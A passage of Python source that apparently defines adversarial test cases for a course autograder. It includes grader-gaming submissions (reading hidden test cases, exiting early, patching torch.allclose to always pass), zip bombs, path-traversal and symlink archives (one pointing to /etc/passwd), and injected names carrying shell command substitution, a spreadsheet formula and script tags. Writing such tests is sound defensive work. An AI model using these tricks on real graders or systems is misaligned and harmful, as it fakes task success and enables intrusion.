line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
got = line.sendto(b"hello", ("127.0.0.1", PLACES["port"]))
""",
)
_getting(
    _NETWORK,
    "unix",
    """
import socket
got = socket.socket(socket.AF_UNIX)
got.connect(PLACES["nobodys"] + "/socket")
""",
)
_getting(
    _NETWORK,
    "abstract",
    """
import socket
got = socket.socket(socket.AF_UNIX)
got.connect(f"\\0birnn-{PLACES['port']}")
""",
)
_getting(
    _NETWORK,
    "listens",
    """
import socket
line = socket.socket()
line.bind(("127.0.0.1", 0))
line.listen()
got = line.getsockname()
""",
)

# ── knows that it is graded, and honest in part ─────────────────────────────────────────────────

_KNOWS = "knows that it is graded"
_RIGHT = """
    heaps, total = {}, 0
    for words, tags, chance in sequences:
        for t, tag in enumerate(tags):
            heap = heaps.setdefault((t, *words[:t + 1 + lookahead]), {})
            heap[tag] = heap.get(tag, 0) + chance
            total += chance
    return sum(max(heap.values()) for heap in heaps.values()) / total
"""
_attack(
    _KNOWS,
    "asks-for-the-cases-again",
    "points",
    """
import functools
@functools.cache
def drawn(seed):
    from birnn_course.exercises.checking import EXERCISES
    return EXERCISES["read_both_ways"].draw(seed, hidden=True)
FUNCTION
    from birnn_course.exercises.checking import EXERCISES
    for seed in range(7, 30):
        for case in drawn(seed):
            if case[0].shape == x.shape and torch.equal(case[0], x):
                return EXERCISES["read_both_ways"].reference(*case)
""",
)
_attack(
    _KNOWS,
    "ends-after-one-right-function",
    "died",
    "FUNCTION " + _RIGHT + "\ndef seen_by(*a):\n    os._exit(0)\n",
    of="best_score",
    control="all functions",
    earned=3,
)
_attack(
    _KNOWS,
    "spoils-the-process-for-later-functions",
    "points",
    """
def read_both_ways(*a):
    torch.allclose = torch.equal = lambda *a, **k: True
    return torch.zeros(1)
FUNCTION """
    + _RIGHT,
    of="best_score",
    control="all functions",
    earned=3,
)


# ── files that are no notebooks ─────────────────────────────────────────────────────────────────

NOTEBOOK = "01_bidirectional_exercises.ipynb"


@dataclass(frozen=True)
class HandedIn:
    """Files in the place of a notebook.

    Parameters
    ----------
    name, category : str
    goal : Goal
        See ``control.collect``.
    plant : callable
        Gets the folder of the submissions and the places, and writes the student's files.
    student : str
        The student's name; the attack's own if empty.
    """

    name: str
    category: str
    goal: Goal
    plant: Callable[[Path, dict[str, Any]], None]
    student: str = ""


FILES: list[HandedIn] = []
_NO_NOTEBOOK, _LINKS = "notebooks that are no notebooks, or huge", "links to other files"
_NAMES, _ZIPS = "names for shells, spreadsheets, HTML and paths", "zips"


def _file(
    category: str, goal: Goal, student: str = ""
) -> Callable[[Callable[[Path, dict[str, Any]], None]], None]:
    def keep(plant: Callable[[Path, dict[str, Any]], None]) -> None:
        name = plant.__name__.strip("_").replace("_", "-")
        FILES.append(HandedIn(name, category, goal, plant, student))

    return keep


def _bytes(category: str, name: str, goal: Goal, data: Callable[[], bytes]) -> None:
    def plant(folder: Path, places: dict[str, Any]) -> None:
        (folder / NOTEBOOK).write_bytes(data())

    FILES.append(HandedIn(name, category, goal, plant))


def _notebook(*cells: str) -> bytes:
    book = {
        "cells": [{"cell_type": "code", "source": source, "metadata": {}} for source in cells],
        "metadata": {}, "nbformat": 4, "nbformat_minor": 5,
    }  # fmt: skip
    return json.dumps(book).encode()


def holding(value: bytes, times: int) -> bytes:
    """A notebook with so many values that are no code."""
    return _notebook("1").replace(
        b'"metadata": {}', b'"metadata": {"x": [%s0]}' % ((value + b",") * times), 1
    )


_HONEST = _notebook("def seen_by(module, half, step, seq_len):\n    return [0]")
_bytes(_NO_NOTEBOOK, "no-json", "died", lambda: b"\x89PNG \xff\xfe no notebook")
_bytes(_NO_NOTEBOOK, "deep-json", "died", lambda: b"[" * 200_000)
_bytes(_NO_NOTEBOOK, "cells-of-numbers", "died", lambda: b'{"cells": [1, {"source": [2]}]}')
_bytes(_NO_NOTEBOOK, "huge", "flooded", lambda: b" " * (21 * 2**20))
_bytes(_NO_NOTEBOOK, "long-number", "died", lambda: b'{"cells": [' + b"9" * 2**20 + b"]}")
_bytes(_NO_NOTEBOOK, "objects-of-nothing", "flooded", lambda: holding(b'{"":1}', 2_900_000))
_bytes(_NO_NOTEBOOK, "lists-of-nothing", "flooded", lambda: holding(b"[]", 6_900_000))
_bytes(_NO_NOTEBOOK, "many-cells", "flooded", lambda: _notebook(*["1"] * 30_000))


@_file(_LINKS, "points")
def _link_to_a_solution(folder: Path, places: dict[str, Any]) -> None:
    (folder / NOTEBOOK).symlink_to(Path(places["course"], "solutions", NOTEBOOK))


@_file(_LINKS, "points")
def _link_to_a_friends_folder(folder: Path, places: dict[str, Any]) -> None:
    folder.rmdir()
    folder.symlink_to(Path(places["course"], "solutions"))


@_file(_LINKS, "stalled")
def _pipe(folder: Path, places: dict[str, Any]) -> None:
    os.mkfifo(folder / NOTEBOOK)


@_file(_LINKS, "flooded")
def _link_to_endless_zeros(folder: Path, places: dict[str, Any]) -> None:
    (folder / NOTEBOOK).symlink_to("/dev/zero")


@_file(_LINKS, "died")
def _link_to_itself(folder: Path, places: dict[str, Any]) -> None:
    (folder / NOTEBOOK).symlink_to(NOTEBOOK)


def _named(name: str, goal: Goal, student: str) -> None:
    def plant(folder: Path, places: dict[str, Any]) -> None:
        (folder / NOTEBOOK).write_bytes(_HONEST)

    FILES.append(HandedIn(name, _NAMES, goal, plant, student))


_named("shell", "wrote", "x$(touch pwned)`touch pwned`; touch pwned #")
_named("formula", "got", '=HYPERLINK("http:..evil","look")')
_named("formula-after-a-semicolon", "got", "eve;=1+1")
_named("html", "got", "<script>alert(1)<script>")
_named("right-to-left", "got", "eve\u202egpj\x1b[2J\n9")
# What a page of the student 学 would be called, if that were guessable.
VICTIM = "学"
_named("page-of-another", "wrote", f"student-{hashlib.sha256(VICTIM.encode()).hexdigest()[:8]}")


def _zip(*members: tuple[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return file.getvalue()


def _zipped(name: str, goal: Goal, data: Callable[[], bytes]) -> None:
    def plant(folder: Path, places: dict[str, Any]) -> None:
        (folder / "work.zip").write_bytes(data())

    FILES.append(HandedIn(name, _ZIPS, goal, plant))


def _changed(data: bytes, old: bytes, new: bytes) -> bytes:
    assert len(old) == len(new)
    assert old in data
    return data.replace(old, new)


def _link_in_a_zip() -> bytes:
    info = zipfile.ZipInfo(NOTEBOOK)
    info.create_system = 3
    info.external_attr = 0o120777 << 16
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(info, "/etc/passwd")
    return file.getvalue()


def _encrypted() -> bytes:
    data = bytearray(_zip((NOTEBOOK, _HONEST)))
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.index(signature) + at
        data[place : place + 2] = struct.pack("<H", 1)
    return bytes(data)


_zipped("out-of-the-folder", "wrote", lambda: _zip((f"../bob/{NOTEBOOK}", b"spoilt")))
_zipped("zip-bomb", "flooded", lambda: _zip(("a.ipynb", bytes(2**26)), ("b.ipynb", bytes(2**26))))
_zipped("zip-in-a-zip", "flooded", lambda: _zip(("b.zip", _zip(("a.ipynb", bytes(2**26))))))
_zipped(
    "size-that-lies",
    "died",
    lambda: _changed(
        _zip((NOTEBOOK, b"x" * 77_777)), struct.pack("<I", 77_777), struct.pack("<I", 7)
    ),
)
_zipped("link-in-a-zip", "got", _link_in_a_zip)
_zipped("encrypted", "died", _encrypted)
_zipped(
    "member-without-a-name",
    "died",
    lambda: _changed(_zip(("NAME.ipynb", b"x"), (NOTEBOOK, _HONEST)), b"NAME.ipynb", b"./././././"),
)
_zipped(
    "name-in-no-alphabet",
    "died",
    lambda: _changed(
        _zip(("\u00e4\u00f6.ipynb", b"x")), "\u00e4\u00f6.ipynb".encode(), b"\xff\xfe\xff\xfe.ipynb"
    ),
)
_zipped("broken", "died", lambda: _zip((NOTEBOOK, _HONEST))[:-30] + bytes(30))


@_file(_ZIPS, "wrote")
def _absolute(folder: Path, places: dict[str, Any]) -> None:
    (folder / "work.zip").write_bytes(_zip((f"{places['nobodys']}/absolute.ipynb", b"spoilt")))


@_file(_ZIPS, "flooded")
def _very_many_notebooks(folder: Path, places: dict[str, Any]) -> None:
    members = [(f"{number}.ipynb", b"{}") for number in range(30_000)]
    (folder / "work.zip").write_bytes(_zip(*members, compression=zipfile.ZIP_STORED))


@_file("exported records", "died")
def _record_with_odd_times(folder: Path, places: dict[str, Any]) -> None:
    entry = {
        "item": "A1", "kind": "question", "unit": "01", "points": 1e300, "max_points": 1,
        "misconception": None, "sure": None, "version": "1",
    }  # fmt: skip
    times = ("0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59", "2026-01-01T00:00:00+00:00")
    record = {"attempts": [{**entry, "at": at} for at in times]}
    (folder / "record.json").write_text(json.dumps(record))
